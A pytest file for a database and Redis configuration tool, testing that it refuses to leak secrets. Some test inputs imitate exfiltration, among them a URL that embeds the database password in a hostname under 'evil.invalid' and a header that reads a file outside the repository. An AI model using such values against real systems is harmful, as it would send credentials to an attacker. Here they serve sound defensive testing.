"""What an attacker found once the first attacks held: each was seen to do its harm on the code of that time."""

from __future__ import annotations

import pytest
from applying.acting import apply, plan_for, results
from pg_index.declared import tables
from redis_setting.declared import declared as redis_settings

from attacks.repository import SECRET
from reconciler.model import Applied, HazardType

PASSWORD = "Mixed-Case-Passw0rd"
ENV = {"DATABASE_URL": f"postgresql://app:{PASSWORD}@127.0.0.1:1/app", "DATABASE_PASSWORD": PASSWORD}
CHECK = "checklist:\n  - {id: i, title: t, check: {http: {path: /, expect: {status: 200}}}}\n"


@pytest.mark.parametrize("limits", [(), ("--variables", "DATABASE_URL:url,DATABASE_PASSWORD:url")])
@pytest.mark.parametrize(
    "url", ["http://${DATABASE_PASSWORD}.evil.invalid/", "postgresql://${DATABASE_PASSWORD}@127.0.0.1:1/x"]
)
def test_a_password_is_told_to_nobody_as_a_host_or_a_user(checkout, url, limits):
    """A host is looked up in lower case; a user is sent before anything is encrypted."""
    system = url.split(":")[0].replace("postgresql", "postgres")
    checkout.write(
        {
            "desired/x.yaml": f'targets:\n  main: {{postgres: "${{DATABASE_URL}}"}}\n  app: {{{system}: "{url}"}}\n'
            "target: app\nchecklist:\n  - {id: i, title: t, check: {file: {path: README.md, contains: a}}}\n"
        }
    )
    done = checkout.run(*limits, "check", "app", env=ENV)
    assert done.code == 1
    assert "a password that is known" in done.shown
    assert PASSWORD.lower() not in done.shown.lower()


@pytest.mark.parametrize("url", ["host=127.0.0.1 port=1 user=app password=${DATABASE_PASSWORD}", "${CONNINFO}"])
def test_a_connection_string_may_hold_its_own_password(checkout, url):
    checkout.write({"desired/x.yaml": f'targets: {{main: {{postgres: "{url}"}}}}\n'})
    env = ENV | {"CONNINFO": f"host=127.0.0.1 port=1 user=app password={PASSWORD}"}
    done = checkout.run("validate", env=env)
    assert done.code == 0, done.shown


def test_a_limited_author_has_no_secrets_outside_of_the_repository(checkout, application):
    checkout.write(
        {
            "desired/x.yaml": f'targets: {{app: {{http: "{application.url}"}}}}\ntarget: app\nchecklist:\n'
            "  - {id: i, title: t, check: {http: {path: /, "
            f'headers: {{x: {{file: "{checkout.outside / "secret"}"}}}}, expect: {{status: 200}}}}}}}}\n'
        }
    )
    done = checkout.run("--hosts", "127.0.0.1", "check")
    assert "is not below" in done.shown
    assert not any(SECRET in each for each in application.seen)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("(id)", {"columns": ["id", "title"], "unique": True}),
        ("(id) nulls not distinct", {"columns": ["id"], "unique": True}),
        ("(id)", {"columns": ["id"]}),
        ("(id, title)", {"columns": ["id", "title"], "unique": True, "where": "id > 3"}),
    ],
)
@pytest.mark.pg(">=15")
def test_a_rule_that_becomes_weaker_has_to_be_allowed(sql, pg_target, old, new):
    sql.execute("create table tasks (id int, title text)")
    sql.execute(f"create unique index i on tasks {old}".encode())
    plan = plan_for(pg_target, tables(pg_target, {"public.tasks": {"indexes": {"i": new}}}))
    [change] = plan.changes
    assert HazardType.INDEX_DROP in {hazard.type for step in change.steps for hazard in step.hazards}


def test_what_was_judged_beside_something_that_has_changed_since_is_stale(redis_target, redis_client):
    """A limit that was planned beside noeviction evicted two thousand keys, since somebody had set another policy."""
    for number in range(1000):
        redis_client.set(f"k{number}", "x" * 1000)
    limit = redis_client.info()["used_memory"] - 500_000
    redis_client.config_set("maxmemory-policy", "noeviction")
    wanted = redis_settings({"maxmemory": str(limit), "maxmemory-policy": "noeviction"})
    plan = plan_for(redis_target, wanted)
    assert [change.address.name for change in plan.changes] == ["maxmemory"]
    redis_client.config_set("maxmemory-policy", "allkeys-lru")
    receipt = apply(plan, redis_target, allowed=[HazardType.STOPS_SERVICE])
    assert set(results(receipt).values()) == {Applied.STALE}
    assert "planned beside maxmemory-policy" in receipt.changes[0].message
    assert redis_client.dbsize() == 1000


NAMED = "targets: {cache: {redis: 'redis://127.0.0.1:1'}}\ntarget: cache\n"

COPIES = [
    # Only secrets of variables and URLs were known: a copy in clear of what `{file: …}` names went everywhere.
    ("settings: {requirepass: {file: %s}, proc-title-template: 'x %s'}\n", "a setting that everybody may read"),
    ("settings: {requirepass: {file: %s}}\nusers: {app: {rules: 'on ~%s +get'}}\n", "a pattern of keys"),
    ("users: {app: {rules: 'on +get', password: {file: %s}, why: 'it is %s'}}\n", "a reason"),
    ("users: {app: {rules: 'on', password: {file: %s}}}\nsettings: {replica-announce-ip: '%s'}\n", "another section"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "reason"), COPIES, ids=[case[1] for case in COPIES])
def test_a_literal_copy_of_a_secret_in_a_file_is_refused(text, reason, checkout):
    checkout.write({"secret": f"{PASSWORD}\n", "desired/x.yaml": NAMED + text % ("secret", PASSWORD)})
    done = checkout.run("validate")
    assert done.code == 1, done.shown
    assert PASSWORD not in done.shown
    checkout.write({"desired/x.yaml": NAMED + text % ("secret", "else")})
    assert checkout.run("validate").code == 0


def test_a_file_that_is_not_there_is_missed_by_whoever_needs_it_and_by_nobody_before(checkout):
    checkout.write({"desired/x.yaml": f"{NAMED}settings: {{requirepass: {{file: nowhere}}}}\n"})
    assert checkout.run("validate").code == 0


def test_what_a_limited_author_may_not_reach_is_not_read(checkout):
    """Else whether his guess is refused would tell him what stands in a file outside."""
    checkout.write({"desired/x.yaml": NAMED + COPIES[0][0] % (checkout.outside / "secret", PASSWORD)})
    (checkout.outside / "secret").write_text(PASSWORD)
    assert checkout.run("--hosts", "127.0.0.1", "validate").code == 0
